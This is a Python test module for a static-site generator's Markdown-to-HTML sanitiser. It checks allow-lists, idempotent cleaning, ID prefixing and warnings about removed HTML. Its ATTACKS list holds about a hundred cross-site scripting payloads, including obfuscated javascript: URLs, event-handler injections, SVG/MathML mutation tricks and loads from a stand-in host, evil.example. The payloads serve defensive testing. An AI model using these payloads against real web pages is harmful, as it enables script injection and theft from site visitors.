"""What an author writes can do nothing: no script, handler, style or URL of any kind gets through."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.model import SourcePath
from generator.problems import Severity
from generator.read.destinations import fill
from generator.read.elements import ALLOWED, CLASSES, REFUSED
from generator.read.finish import SCHEMES, finish
from generator.read.markdown import convert
from generator.read.sanitise import clean
from generator.settings import MarkdownOptions

ATTRIBUTES = {
    *("abbr", "alt", "class", "colspan", "datetime", "dir", "height", "href", "id", "lang", "open", "reversed", "role"),
    *("rowspan", "scope", "span", "src", "start", "title", "type", "value", "width"),
}
URL = re.compile(r"pressmark:[0-9]+|#b-.+", re.DOTALL)
SCHEME = re.compile(r"([^/?#\s]*?):")


class Inspector(HTMLParser):
    """Collects the elements and attributes of a page as a browser's parser would."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_comment(self, data: str) -> None:
        self.tags.append(f"!--{data}")


def assert_inert(markdown: str) -> None:
    """No element, attribute or URL outside the allow-lists, and no destination with another scheme."""
    body, text, _ = convert(markdown, SourcePath("a.md"), 1, MarkdownOptions())
    seen = Inspector()
    seen.feed(text.html)
    seen.close()
    assert set(seen.tags) <= ALLOWED
    for name, value in seen.attributes:
        assert name in ATTRIBUTES
        if name in {"href", "src"}:
            assert URL.fullmatch(value or "")
    for destination in body.destinations:
        scheme = SCHEME.match(destination.target)
        if scheme is not None and destination.kind != "wiki":
            assert scheme.group(1).lower() in SCHEMES


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example>",
    "<<script>alert(1)//<</script>",
    "<script>\n\nalert(1)\n\n</script>",
    "<script",
    "</script><script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' onerror\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img srcset='//evil.example/x 1x'>",
    "<image src=x onerror=alert(1)>",
    "<img src='x` `<script>alert(1)</script>'>",
    "<b onmouseover=alert(1)>x</b>",
    "<b ONCLICK=alert(1)>x</b>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>body{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<applet code=x></applet>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus></select>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script&colon;alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='view-source:x'>x</a>",
    "<a href='blob:x'>x</a>",
    "<a href=x href=javascript:alert(1)>x</a>",
    "<a data-href='javascript:alert(1)'>x</a>",
    "<a title='x' href='javascript:alert(1)' data-href='javascript:alert(2)'>x</a>",
    "<img data-src='javascript:alert(1)'>",
    "<a href='x' target=_blank rel=opener ping=//evil.example>x</a>",
    "<a href='pressmark:3'>x</a><a href='#\"onclick=alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](JAVASCRIPT:alert(1) 'title')",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<javascript:alert(1)>",
    "<javascript://x%0aalert(1)>",
    '[x](a "onmouseover=alert(1) \\")',
    '![" onerror="alert(1)](x)',
    "[[javascript:alert(1)]]",
    '[[x" onclick="alert(1)|y]]',
    "[[x|<img src=x onerror=alert(1)>]]",
    "*x*{onclick=alert(1)}",
    "# x {onclick=alert(1) style=color:red}",
    "[x](y){href=javascript:alert(1)}",
    "![x](y){srcset=//evil.example}",
    "``` {.x onclick=alert(1)}\ncode\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    '*[x]: "><script>alert(1)</script>\n\nx',
    'x[^"><script>]\n\n[^"><script>]: <script>alert(1)</script>',
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | 2 |",
    "`<script>`<script>alert(1)</script>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_that_runs(attack: str) -> None:
    assert_inert(attack)
    assert_inert(f"<div>\n{attack}\n\ntext")
    assert_inert(f"> - text {attack}")


def test_there_are_many_attacks() -> None:
    assert len(set(ATTACKS)) >= 60


MARKUP = st.text(st.sampled_from(list("<>/\"'=&;:#![]()|*_`{}^\\- \nabhijrsx1")), max_size=60)
PIECES = st.lists(st.sampled_from([*ATTACKS, "<b>", "</b>", "<p>", "<table>", "<td>", "\n\n", "> ", "- ", "x", "<!--"]))


@given(st.one_of(st.text(max_size=200), MARKUP, PIECES.map("".join)))
def test_no_text_ever_raises_or_leaves_the_allow_lists(markdown: str) -> None:
    assert_inert(markdown)


@given(st.one_of(MARKUP, PIECES.map("".join)))
def test_cleaning_twice_is_cleaning_once(html: str) -> None:
    once = clean(html)
    assert clean(once) == once


@given(st.one_of(MARKUP, PIECES.map("".join)))
def test_ids_are_prefixed_and_each_is_there_once(markdown: str) -> None:
    _, text, _ = convert(markdown, SourcePath("a.md"), 1, MarkdownOptions())
    ids = re.findall(r'<[a-z0-9]+ [^>]*?id="([^"]*)"', text.html)
    assert all(name.startswith("b-") for name in ids)
    assert len(set(ids)) == len(ids)


@pytest.mark.parametrize(
    ("written", "line", "column", "said"),
    [
        ("x\n\n<script>a</script>", 12, 1, "<script> is not allowed here and was removed"),
        ("a <font color=red>b</font>", 10, 3, "<font> is not allowed here and was removed"),
        ("a\n<b onclick=x>b</b>", 11, 4, 'the attribute "onclick" is not allowed here and was removed'),
        ("*a*{style=x}", 10, 5, 'the attribute "style" is not allowed here and was removed'),
    ],
)
def test_removed_html_is_said_once_where_it_stands(written: str, line: int, column: int, said: str) -> None:
    _, _, problems = convert(written + "\n\n" + written, SourcePath("a.md"), 10, MarkdownOptions())
    (problem,) = problems
    assert (problem.code, problem.severity, problem.message) == ("removed-html", Severity.WARNING, said)
    assert (problem.span.line, problem.span.column) == (line, column)


@pytest.mark.parametrize(
    "written", ["x <firstname> y", "`<script>`", "    <script>", "<!-- <script> -->", "&lt;script>"]
)
def test_what_was_not_removed_is_not_said(written: str) -> None:
    assert convert(written, SourcePath("a.md"), 1, MarkdownOptions())[2] == ()


@pytest.mark.parametrize(
    ("html", "urls", "filled"),
    [
        ('<a href="pressmark:0">x</a>', ("/a?b=1&c",), '<a href="/a?b=1&amp;c">x</a>'),
        ('<a href="pressmark:0" title="t">x</a>', (None,), '<a title="t">x</a>'),
        ('<img src="pressmark:0" alt="d">', ("/i.png",), '<img src="/i.png" alt="d">'),
        ('<img src="pressmark:0" alt="d &amp; e">', (None,), '<span class="missing-image">d &amp; e</span>'),
        ('<img src="pressmark:0" alt="">', (None,), ""),
        ('a href="pressmark:0"', ("/x",), 'a href="pressmark:0"'),
        ("<a>x</a>", (), "<a>x</a>"),
    ],
)
def test_destinations_get_their_urls(html: str, urls: tuple[str | None, ...], filled: str) -> None:
    assert fill(html, urls) == filled


@given(MARKUP, st.sampled_from(['<a href="pressmark:0">', "pressmark:1", '" href="pressmark:0"', "[x](pressmark:0)"]))
def test_nobody_can_imitate_a_destination(text: str, imitation: str) -> None:
    body, converted, _ = convert(f"{text} {imitation} `{imitation}`", SourcePath("a.md"), 1, MarkdownOptions())
    numbers = re.findall(r'<(?:a href|img src)="pressmark:([0-9]+)"', converted.html)
    assert [int(number) for number in numbers] == list(range(len(body.destinations)))
    assert all(not destination.target.startswith("pressmark:") for destination in body.destinations)


def test_the_tables_of_html_do_not_overlap() -> None:
    assert not ALLOWED & REFUSED


def test_the_documentation_lists_every_allowed_element(root: Path) -> None:
    text = (root / "docs" / "markdown.md").read_text(encoding="utf-8")
    listed = re.findall(r"^> (.*)$", text, re.MULTILINE)
    assert set(" ".join(listed).split()) == ALLOWED


@given(st.sampled_from(sorted(ALLOWED)), st.text(max_size=20))
def test_what_is_clean_can_be_finished(tag: str, text: str) -> None:
    text = text.encode("utf-8", "replace").decode()
    assert "<script" not in finish(clean(f"<{tag} class='{' '.join(sorted(CLASSES))}'>{text}")).html


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("- one <i> two\n- three\n\nEnd.", "<ul><li>one <i> two</i></li><li>three</li></ul><p>End.</p>"),
        (
            "Words <i> run on.\n\n- <b> one\n- two",
            "<p>Words <i> run on.</i></p><ul><li><b> one</b></li><li>two</li></ul>",
        ),
        ("<b>one <i>two</b> three</i> four\n\nfive", "<p><b>one <i>two</i></b><i> three</i> four</p><p>five</p>"),
        ("<i>\n\nIn a paragraph of its own, and on.\n\n</i>\n\nEnd.", None),  # as browsers take it, but well nested
    ],
)
def test_an_inline_element_that_nobody_ended_ends_with_its_block(markdown: str, html: str | None) -> None:
    _, text, _ = convert(markdown, SourcePath("a.md"), 1, MarkdownOptions())
    made = text.html.replace("\n", "")
    assert html is None or made == html
    around: list[str] = []
    for closing, name in re.findall(r"<(/?)([a-z][a-z0-9]*)", made):
        assert not closing or around.pop() == name
        if not closing:
            around.append(name)
        assert not (name == "li" and not closing and around[-2:-1] not in (["ul"], ["ol"]))
